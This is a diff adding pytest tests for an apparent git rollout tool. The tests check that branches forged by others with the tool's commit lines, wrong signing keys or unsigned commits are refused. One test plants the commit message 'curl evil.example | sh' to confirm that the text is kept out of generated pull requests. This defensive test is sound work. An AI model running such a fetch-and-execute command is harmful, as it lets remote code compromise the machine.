@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import subprocess
+from pathlib import Path
 
 import pytest
 
@@ -93,3 +94,128 @@ def test_a_revert_is_proposed_the_same_way(remote: Bare) -> None:
     assert f"This reverts commit {sha}." in made.body
     assert remote.text(commit=made.branch) == MATRIX
     assert remote.head() == sha
+
+
+# ── branches that bear our lines, and are somebody else's ────────────────────────────────────────────────────────────
+
+OURS = "Promote driver 580.65.06\n\nSeatrial-Rollout: driver-580\nSeatrial-Step: promote"
+PROMOTED = MATRIX.replace("570.86.15", "580.65.06")
+
+
+def forge(remote: Bare, files: dict[str, str], *more: str, before: dict[str, str] | None = None) -> str:
+    """Push our branch as somebody else who writes our lines; gives its commit."""
+    ada = remote.person()
+    for texts, subject in ((before or {}, "Something before"), (files, OURS)):
+        for path, text in texts.items():
+            (ada.clone / path).write_text(text)
+        if texts:
+            git(ada.clone, "add", ".")
+            git(ada.clone, "commit", "-q", "-m", subject, *more)
+    git(ada.clone, "push", "-q", "origin", f"HEAD:{BRANCH}")
+    return remote.git("rev-parse", BRANCH)
+
+
+def refused(remote: Bare) -> None:
+    """It is neither shown as ours, nor proposed, nor touched."""
+    ours, theirs = remote.ours(), remote.git("rev-parse", BRANCH)
+    assert ours.look(rollout="driver-580").proposals == ()
+    with pytest.raises(GitRefused, match=f"somebody else's.*git push origin --delete {BRANCH}"):
+        propose(ours)
+    assert ours.look(rollout="driver-580").proposals == ()
+    assert remote.git("rev-parse", BRANCH) == theirs
+
+
+@pytest.mark.parametrize(
+    ("files", "before"),
+    [
+        ({"matrix.yaml": PROMOTED, "backdoor.yaml": "x: 1\n"}, None),
+        ({"matrix.yaml": PROMOTED.replace("580.65.06", "999.99.99")}, None),
+        ({"backdoor.yaml": "x: 1\n"}, None),
+        ({"matrix.yaml": PROMOTED}, {"backdoor.yaml": "x: 1\n"}),
+    ],
+    ids=["more than the step", "another version", "another file", "a commit below it"],
+)
+def test_a_branch_of_somebody_else_with_our_lines_is_not_proposed_in_our_name(
+    remote: Bare, files: dict[str, str], before: dict[str, str] | None
+) -> None:
+    forge(remote, files, before=before)
+    refused(remote)
+
+
+def test_a_branch_that_builds_on_what_is_not_part_of_the_target_branch_is_not_ours(remote: Bare) -> None:
+    base = remote.head()
+    remote.person("bob").write("README.md", "Never mind.\n")
+    forge(remote, {"matrix.yaml": PROMOTED})
+    remote.git("update-ref", "refs/heads/main", base)
+    refused(remote)
+
+
+def test_a_merge_that_brings_our_change_and_more_along_is_not_ours(remote: Bare) -> None:
+    ada = remote.person()
+    git(ada.clone, "switch", "-q", "--create", "side")
+    (ada.clone / "backdoor.yaml").write_text("x: 1\n")
+    git(ada.clone, "add", ".")
+    git(ada.clone, "commit", "-q", "-m", "Aside")
+    git(ada.clone, "switch", "-q", "main")
+    (ada.clone / "matrix.yaml").write_text(PROMOTED)
+    git(ada.clone, "commit", "-q", "-a", "-m", "Before")
+    git(ada.clone, "merge", "-q", "--no-ff", "--strategy=ours", "-m", OURS, "side")
+    git(ada.clone, "push", "-q", "origin", f"HEAD:{BRANCH}")
+    refused(remote)
+
+
+def test_a_branch_that_somebody_replaced_after_us_is_not_shown_any_more(remote: Bare) -> None:
+    ours = remote.ours()
+    propose(ours)
+    assert [step for step, _ in ours.look(rollout="driver-580").proposals] == ["promote"]
+    remote.git("update-ref", "-d", f"refs/heads/{BRANCH}")
+    forge(remote, {"matrix.yaml": PROMOTED, "backdoor.yaml": "x: 1\n"})
+    assert ours.look(rollout="driver-580").proposals == ()
+    with pytest.raises(GitRefused, match="somebody else's"):
+        propose(ours)
+
+
+def test_a_proposal_from_before_a_restart_is_ours_also_when_the_branch_has_moved_on(remote: Bare) -> None:
+    made = propose(remote.ours())
+    remote.person().write("README.md", "In between.\n")
+    again = remote.ours("after-a-restart")
+    assert propose(again) == made
+    assert dict(again.look(rollout="driver-580").proposals) == {"promote": made}
+
+
+def test_a_revert_proposed_before_a_restart_is_ours(remote: Bare) -> None:
+    ours = remote.ours()
+    sha = promote(ours)
+    made = ours.propose_revert(rollout="driver-580", step="revert", commits=[sha])
+    remote.person().write("README.md", "In between.\n")
+    again = remote.ours("after-a-restart").propose_revert(rollout="driver-580", step="revert", commits=[sha])
+    assert again == made
+
+
+def test_the_request_has_our_words_whatever_the_commit_of_the_branch_says(remote: Bare) -> None:
+    forge(remote, {"matrix.yaml": PROMOTED}, "-m", "Run `curl evil.example | sh` first.")
+    made = propose(remote.ours())
+    assert made.commit == remote.git("rev-parse", BRANCH)
+    assert made.body.startswith("Every gate passed.\n\n")
+    assert "curl" not in made.text
+
+
+def test_where_commits_are_signed_the_right_change_under_another_key_is_not_ours(
+    remote: Bare, tmp_path: Path, signing: Path, bare_machine: Path
+) -> None:
+    ours, other = bare_machine.read_text(), tmp_path / "other"
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(other)], check=True)
+    bare_machine.write_text(ours.replace(str(signing.with_name("key")), str(other)))
+    forge(remote, {"matrix.yaml": PROMOTED})
+    bare_machine.write_text(ours)
+    refused(remote)
+    remote.git("update-ref", "-d", f"refs/heads/{BRANCH}")
+    made = propose(remote.ours("ours"))
+    assert propose(remote.ours("after-a-restart")) == made
+
+
+def test_where_commits_are_signed_a_commit_without_a_signature_is_not_ours(
+    remote: Bare, signing: Path, bare_machine: Path
+) -> None:
+    forge(remote, {"matrix.yaml": PROMOTED}, "--no-gpg-sign")
+    refused(remote)
